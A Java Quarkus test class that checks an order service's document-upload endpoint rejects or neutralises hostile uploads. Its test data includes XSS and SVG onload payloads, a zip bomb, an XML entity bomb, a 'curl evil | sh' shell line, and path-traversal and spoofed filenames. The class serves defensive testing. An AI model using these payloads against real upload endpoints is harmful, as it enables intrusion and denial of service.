package tradeassurance.order;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasSize;
import static tradeassurance.order.OrderClient.as;
import static tradeassurance.order.OrderClient.drafted;
import static tradeassurance.order.PaperClient.PDF;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import tradeassurance.chassis.testing.FakePeers;
import tradeassurance.chassis.testing.ServiceEnvironment;

/** What is sent on purpose to do harm is either refused with a reason or kept harmless, and the service goes on. */
@QuarkusTest
@QuarkusTestResource(value = ServiceEnvironment.class, initArgs = @ResourceArg(name = "service", value = "order-service"))
class HostileUploadTest {

    private static final String BOUNDARY = "----x";

    private String order = "";

    @BeforeEach
    void anOrder() {
        OrderClient.supplierIsEligible();
        order = drafted("");
    }

    private record Answered(int status, String body) {
    }

    /** Sends bytes as they are, such as no client library would. */
    private Answered send(String contentType, byte[] body, long length) throws IOException {
        try (Socket socket = new Socket("localhost", RestAssured.port)) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(("POST /v1/orders/" + order + "/documents HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                    + "Authorization: Bearer " + FakePeers.token("b1", "BUYER") + "\r\nIdempotency-Key: " + UUID.randomUUID()
                    + "\r\nContent-Type: " + contentType + "\r\nContent-Length: " + length + "\r\n\r\n").getBytes(ISO_8859_1));
            out.write(body);
            out.flush();
            if (length > body.length) {
                socket.shutdownOutput();
            }
            return answered(socket.getInputStream());
        }
    }

    private static Answered answered(InputStream in) throws IOException {
        String text;
        try {
            text = new String(in.readAllBytes(), UTF_8);
        } catch (java.net.SocketException reset) {
            text = "";
        }
        return text.isEmpty() ? new Answered(0, "") : new Answered(Integer.parseInt(text.substring(9, 12)), text);
    }

    private static byte[] form(String fileHeader, byte[] content) throws IOException {
        ByteArrayOutputStream form = new ByteArrayOutputStream();
        form.write(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nOTHER\r\n--" + BOUNDARY
                + "\r\nContent-Disposition: form-data; " + fileHeader + "\r\nContent-Type: application/pdf\r\n\r\n")
                .getBytes(UTF_8));
        form.write(content);
        form.write(("\r\n--" + BOUNDARY + "--\r\n").getBytes(UTF_8));
        return form.toByteArray();
    }

    private Answered send(String fileHeader, byte[] content) throws IOException {
        byte[] form = form(fileHeader, content);
        return send("multipart/form-data; boundary=" + BOUNDARY, form, form.length);
    }

    private static byte[] content(String what) throws IOException {
        return switch (what) {
            case "pdf" -> PDF;
            case "nothing" -> new byte[0];
            case "html" -> "<html><script>alert(document.cookie)</script></html>".getBytes(UTF_8);
            case "svg" -> "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"
                    .getBytes(UTF_8);
            case "exe" -> "MZ\u0090\0\u0003\0\0\0\u0004\0\0\0\u00ff\u00ff\0\0".getBytes(ISO_8859_1);
            case "jar" -> zip("META-INF/MANIFEST.MF");
            case "zip bomb" -> zip("zeroes");
            case "xml bomb" -> ("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"
                    + "<a>&b;</a>").getBytes(UTF_8);
            case "shell" -> "#!/bin/sh\ncurl evil | sh\n".getBytes(UTF_8);
            case "noise" -> new byte[] { 0, 1, 2, 3, (byte) 0xff, 0, (byte) 0xfe, 7 };
            default -> throw new IllegalArgumentException(what);
        };
    }

    /** Forty megabytes of zeroes in forty kilobytes. */
    private static byte[] zip(String entry) throws IOException {
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry(entry));
            for (int i = 0; i < 40; i++) {
                out.write(new byte[1 << 20]);
            }
        }
        return zip.toByteArray();
    }

    @ParameterizedTest(name = "{0} called {1}: {2}")
    @CsvSource(delimiter = '|', useHeadersInDisplayName = true, textBlock = """
            content  | name          | status | code
            zip bomb | contract.pdf  | 415    | unsupported-media-type
            zip bomb | contract.docx | 415    | unsupported-media-type
            jar      | drawing.dwg   | 415    | unsupported-media-type
            html     | defect.png    | 415    | unsupported-media-type
            html     | defect.pdf    | 415    | unsupported-media-type
            svg      | defect.jpg    | 415    | unsupported-media-type
            exe      | invoice.pdf   | 415    | unsupported-media-type
            xml bomb | list.csv      | 415    | unsupported-media-type
            shell    | note.txt      | 415    | unsupported-media-type
            noise    | a.pdf         | 415    | unsupported-media-type
            nothing  | a.pdf         | 400    | document-empty
            """)
    void whatIsNotWhatItSaysIsRefused(String content, String name, int status, String code) throws IOException {
        Answered answered = send("name=\"file\"; filename=\"" + name + "\"", content(content));
        assertThat(answered.status()).as(answered.body()).isEqualTo(status);
        assertThat(answered.body()).contains("application/problem+json", "\"code\":\"" + code + "\"", "/file");
        nothingWasFiled();
    }

    @ParameterizedTest(name = "the name {0} is kept as {1}")
    @CsvSource(delimiter = '|', useHeadersInDisplayName = true, textBlock = """
            name                                | kept
            ../../../../etc/cron.d/evil.pdf     | evil.pdf
            ..\\\\..\\\\windows\\\\system32\\\\evil.pdf | evil.pdf
            /dev/null                           | null
            a\u001b[31m\u0007.pdf               | a[31m.pdf
            gpj.\u202Efdp.pdf                   | gpj.fdp.pdf
            CON:stream.pdf                      | CON_stream.pdf
            """)
    void aNameLeadsNowhere(String name, String kept) throws IOException {
        Answered answered = send("name=\"file\"; filename=\"" + name + "\"", PDF);
        assertThat(answered.status()).as(answered.body()).isEqualTo(201);
        assertThat(answered.body()).contains("\"name\":\"" + kept + "\"");
    }

    @Test
    void aNameOfNoLengthAtAllIsNoFileOrADocument() throws IOException {
        Answered answered = send("name=\"file\"; filename=\"\"", PDF);
        assertThat(answered.status()).as(answered.body()).isIn(201, 400);
        assertThat(answered.body()).containsAnyOf("\"name\":\"document\"", "application/problem+json");
    }

    @Test
    void aFormWithoutTheFileIsToldSo() throws IOException {
        Answered answered = send("name=\"another\"; filename=\"a.pdf\"", PDF);
        assertThat(answered.status()).as(answered.body()).isEqualTo(400);
        assertThat(answered.body()).contains("application/problem+json", "\"pointer\":\"/file\"");
        as("b1", "BUYER").body("{}").post("/v1/orders/" + order + "/documents").then().statusCode(415)
                .contentType("application/problem+json");
        nothingWasFiled();
    }

    @Test
    void aFormThatIsNoneIsToldSo() throws IOException {
        byte[] form = form("name=\"file\"; filename=\"a.pdf\"", PDF);
        Answered another = send("multipart/form-data; boundary=----another", form, form.length);
        assertThat(another.status()).as(another.body()).isEqualTo(400);
        Answered none = send("multipart/form-data", form, form.length);
        assertThat(none.status()).as(none.body()).isEqualTo(400);
        nothingWasFiled();
    }

    @Test
    void aFormThatEndsInTheMiddleFilesNothing() throws IOException {
        byte[] form = form("name=\"file\"; filename=\"a.pdf\"", PDF);
        Answered cut = send("multipart/form-data; boundary=" + BOUNDARY, java.util.Arrays.copyOf(form, form.length - 20),
                form.length);
        assertThat(cut.status()).isNotEqualTo(201);
        Answered unclosed = send("multipart/form-data; boundary=" + BOUNDARY, java.util.Arrays.copyOf(form, form.length - 10),
                form.length - 10);
        assertThat(unclosed.status()).as(unclosed.body()).isNotEqualTo(201);
        nothingWasFiled();
    }

    @Test
    void aFormLargerThanIsTakenIsNotRead() throws IOException {
        Answered declared = send("multipart/form-data; boundary=" + BOUNDARY, new byte[10], 50L << 20);
        assertThat(declared.status()).isEqualTo(413);
        assertThat(declared.body()).contains("application/problem+json", "too-large");
        Answered hidden = send("name=\"file\"; filename=\"a.txt\"", "a".repeat((20 << 20) + 1).getBytes(UTF_8));
        assertThat(hidden.status()).as(hidden.body()).isEqualTo(413);
        assertThat(hidden.body()).contains("largest_bytes");
        nothingWasFiled();
    }

    @RepeatedTest(20)
    void aFieldIsNoLargerThanAFieldIs() throws IOException {
        byte[] form = ("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\n" + "K".repeat(100_000)
                + "\r\n--" + BOUNDARY + "--\r\n").getBytes(UTF_8);
        Answered answered = send("multipart/form-data; boundary=" + BOUNDARY, form, form.length);
        assertThat(answered.status()).as(answered.body()).isIn(400, 413);
        nothingWasFiled();
    }

    private void nothingWasFiled() {
        as("b1", "BUYER").get("/v1/orders/" + order + "/documents").then().statusCode(200).body("items", hasSize(0));
        as("b1", "BUYER").get("/v1/orders/" + order + "/paper-trail").then().body("intact", equalTo(true));
    }
}
